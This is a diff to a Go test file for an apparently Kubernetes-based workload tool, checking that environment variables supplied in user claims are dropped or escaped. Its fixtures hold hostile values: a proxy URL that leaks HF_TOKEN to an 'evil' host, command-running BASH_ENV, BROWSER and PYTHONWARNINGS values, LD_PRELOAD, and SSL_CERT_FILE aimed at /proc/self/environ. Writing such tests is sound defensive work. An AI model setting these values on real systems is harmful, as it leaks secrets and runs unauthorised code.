@@ -13,11 +13,13 @@ import (
 )
 
 // TestClaimsDoNotRedirectConnections gives all containers of a pod an environment that sends
-// what they have to a server of the claim's author.
+// what they have to a server of the claim's author, or runs the author's commands.
 func TestClaimsDoNotRedirectConnections(t *testing.T) {
 	claim := []v1.EnvVar{{Name: "LOGIN", ValueFrom: &v1.EnvVarSource{SecretKeyRef: &v1.SecretKeyReference{Name: "s", Key: "k"}}}}
 	for name, value := range map[string]string{
 		"HF_ENDPOINT": "https://evil", "NATS_URL": "nats://evil", "NATS_CREDS": "/x", "AWS_ENDPOINT_URL_S3": "https://evil", "AWS_PROFILE": "evil",
+		"BASH_ENV": "$(id)", "PYTHONWARNINGS": "all:0:antigravity.x:0:0", "BROWSER": "sh -c id #%s", "LD_PRELOAD": "/model/x.so", "GODEBUG": "http2debug=2",
+		"GOMEMLIMIT": "1GiB", "OTEL_SERVICE_NAME": "x", "KOLDUN_LOG_LEVEL": "debug",
 		"SSL_CERT_FILE": "/proc/self/environ", "SSL_CERT_DIR": "/model", "HF_TOKEN": "own", "HTTPS_PROXY": "http://$(HF_TOKEN)@evil",
 	} {
 		claim = append(claim, v1.EnvVar{Name: name, Value: value})
@@ -47,7 +49,8 @@ func TestClaimsDoNotRedirectConnections(t *testing.T) {
 		maps.DeleteFunc(got, func(name, _ string) bool {
 			return !slices.ContainsFunc(claim, func(v v1.EnvVar) bool { return v.Name == name })
 		})
-		want, wantSources := map[string]string{"LOGIN": "", "HF_TOKEN": "own", "HTTPS_PROXY": "http://$$(HF_TOKEN)@evil"}, []string{"KOLDUN_CLAIM_ c", "KOLDUN_CLAIM_X_ s"}
+		want := map[string]string{"HF_TOKEN": "own", "HTTPS_PROXY": "http://$$(HF_TOKEN)@evil", "GOMEMLIMIT": "1GiB", "OTEL_SERVICE_NAME": "x", "KOLDUN_LOG_LEVEL": "debug"}
+		wantSources := []string{"KOLDUN_CLAIM_ c", "KOLDUN_CLAIM_X_ s"}
 		switch c.Name {
 		case "engine":
 			want, wantSources = map[string]string{"LOGIN": ""}, []string{" c", "X_ s"}
@@ -76,9 +79,11 @@ func TestValuesHoldNoSecrets(t *testing.T) {
 		"a=$(HF_TOKEN),b=$(POD_NAME)":         "a=$$(HF_TOKEN),b=$(POD_NAME)",
 		"$(AWS_SECRET_ACCESS_KEY)$(HF_TOKEN)": "$$(AWS_SECRET_ACCESS_KEY)$$(HF_TOKEN)",
 		"$(KOLDUN_S3_CREDENTIALS)":            "$$(KOLDUN_S3_CREDENTIALS)",
+		"$(KOLDUN_HASH_SECRET)":               "$$(KOLDUN_HASH_SECRET)",
+		"$(X)$(OTEL_SERVICE_NAME)":            "$$(X)$(OTEL_SERVICE_NAME)",
 		"$$(HF_TOKEN)":                        "$$(HF_TOKEN)",
 		"$$$(HF_TOKEN)":                       "$$$$(HF_TOKEN)",
-		"$($(HF_TOKEN))":                      "$($$(HF_TOKEN))",
+		"$($(HF_TOKEN))":                      "$$($$(HF_TOKEN))",
 		"$(POD_NAME)$":                        "$(POD_NAME)$",
 		"$(HF_TOKEN":                          "$(HF_TOKEN",
 		"$HF_TOKEN $x$(HF_TOKEN)":             "$HF_TOKEN $x$$(HF_TOKEN)",
@@ -94,8 +99,8 @@ func TestValuesHoldNoSecrets(t *testing.T) {
 }
 
 func TestWithheldVariables(t *testing.T) {
-	got := workload.Withheld("spec.env", []v1.EnvVar{{Name: "HF_ENDPOINT"}, {Name: "HF_TOKEN"}, {Name: "HTTPS_PROXY"}})
-	if diff := cmp.Diff(map[string]bool{"spec.env[HF_ENDPOINT]": true, "spec.env[HF_TOKEN]": false, "spec.env[HTTPS_PROXY]": false}, got); diff != "" {
+	got := workload.Withheld("spec.env", []v1.EnvVar{{Name: "HF_ENDPOINT"}, {Name: "BASH_ENV"}, {Name: "HF_TOKEN"}, {Name: "HTTPS_PROXY"}})
+	if diff := cmp.Diff(map[string]bool{"spec.env[HF_ENDPOINT]": true, "spec.env[BASH_ENV]": true, "spec.env[HF_TOKEN]": false, "spec.env[HTTPS_PROXY]": false}, got); diff != "" {
 		t.Error(diff)
 	}
 }
